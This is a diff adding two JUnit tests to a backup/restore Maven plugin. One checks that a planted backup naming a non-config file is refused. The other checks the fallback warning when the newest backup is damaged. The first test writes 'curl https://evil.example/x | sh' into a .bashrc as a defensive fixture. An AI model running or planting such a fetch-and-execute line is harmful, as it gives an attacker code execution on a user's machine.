@@ -6,12 +6,14 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import io.modelcatalog.backups.BackupStore;
 import io.modelcatalog.providers.EnvironmentLookup;
 import io.modelcatalog.testing.UnwritableFolders;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
+import java.time.Clock;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
@@ -270,5 +272,42 @@ class BackupRestoreMojoTest {
                 e.getMessage());
         assertTrue(e.getMessage().contains("nothing was restored"), e.getMessage());
         assertEquals("changed\n", Files.readString(aichat));
+    }
+
+    @Test
+    @InjectMojo(goal = "restore", pom = POM)
+    void aPlantedBackupNamingAnotherFileIsRefused(RestoreMojo restore) throws Exception {
+        Path bashrc = home.resolve(".bashrc");
+        Files.writeString(bashrc, "curl https://evil.example/x | sh\n");
+        new BackupStore(backups(), Clock.systemUTC()).create(List.of(aichat, bashrc));
+        Files.writeString(bashrc, "alias ll='ls -l'\n");
+
+        MojoExecutionException e = assertThrows(MojoExecutionException.class, prepare(restore)::execute);
+
+        assertTrue(
+                e.getMessage().contains("its manifest names " + bashrc + ", which is not a config file"),
+                e.getMessage());
+        assertEquals("alias ll='ls -l'\n", Files.readString(bashrc));
+    }
+
+    @Test
+    @InjectMojo(goal = "restore", pom = POM)
+    void aLatestRestorePassingOverADamagedNewerBackupWarnsNamingTheOneUsed(RestoreMojo restore) throws Exception {
+        prepare(new BackupMojo()).execute();
+        String used = backupFolders().get(0).getFileName().toString();
+        Files.writeString(aichat, "changed\n");
+        prepare(new BackupMojo()).execute();
+        Path newest = backupFolders().get(1);
+        Files.delete(newest.resolve("manifest.json"));
+
+        prepare(restore).execute();
+
+        assertEquals("model: groq:llama\nclients: []\n", Files.readString(aichat));
+        assertTrue(
+                log.text()
+                        .contains("[WARNING] The newest backup " + newest.getFileName() + " is not usable (has no "
+                                + "manifest.json"),
+                log.text());
+        assertTrue(log.text().contains("restored backup " + used + " instead, the newest usable one"), log.text());
     }
 }
